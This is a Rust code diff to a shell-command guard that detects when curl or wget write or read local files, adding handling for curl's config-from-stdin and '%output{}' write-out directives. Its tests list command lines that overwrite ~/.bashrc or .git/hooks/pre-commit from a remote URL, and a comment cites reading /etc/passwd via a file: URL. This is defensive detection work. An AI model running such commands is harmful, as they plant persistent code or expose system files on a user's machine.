@@ -82,6 +82,18 @@ pub(super) fn reads(name: &str, args: &[Word], c: &mut Classified) {
             c.write(&value, AccessVia::Flag);
             continue;
         }
+        if matches!(option, "-K" | "--config") && value.text == "-" {
+            c.ask(format!(
+                "`{name} {option} -` reads options from standard input, which the analysis cannot see"
+            ));
+            continue;
+        }
+        if matches!(option, "-w" | "--write-out") {
+            // `%output{FILE}` (`%output{>>FILE}` appends) sends what follows into FILE.
+            for file in output_directives(&value.text) {
+                c.write(&Word::literal(file), AccessVia::Flag);
+            }
+        }
         if !value.literal {
             // A value only known at run time may name any file: the read says so.
             c.read(&value, AccessVia::Flag);
@@ -107,6 +119,14 @@ pub(super) fn reads(name: &str, args: &[Word], c: &mut Classified) {
             c.read(&Word::literal(file), AccessVia::Flag);
         }
     }
+}
+
+/// The files a `--write-out` format writes to with `%output{FILE}` or `%output{>>FILE}`.
+fn output_directives(format: &str) -> impl Iterator<Item = &str> {
+    format.split("%output{").skip(1).filter_map(|rest| {
+        let file = rest.split('}').next()?;
+        Some(file.strip_prefix(">>").unwrap_or(file))
+    })
 }
 
 /// A `file:` URL curl is given reads that local file (`curl file:///etc/passwd`); one only known at run time may
@@ -245,6 +265,11 @@ mod tests {
             ),
             ("wget -O ~/.bashrc https://x.example", "~/.bashrc"),
             ("wget -P .git/hooks https://x.example/pre-commit", ".git/hooks"),
+            (
+                "curl -w '%output{.git/hooks/pre-commit}x' https://x.example",
+                ".git/hooks/pre-commit",
+            ),
+            ("curl -sw '%output{>>~/.bashrc}x' https://x.example", "~/.bashrc"),
         ] {
             let analysis = BashGuard::new(BashConfig::default()).analyze(line);
             let writes: Vec<String> = analysis.writes.into_iter().map(|w| w.path).collect();
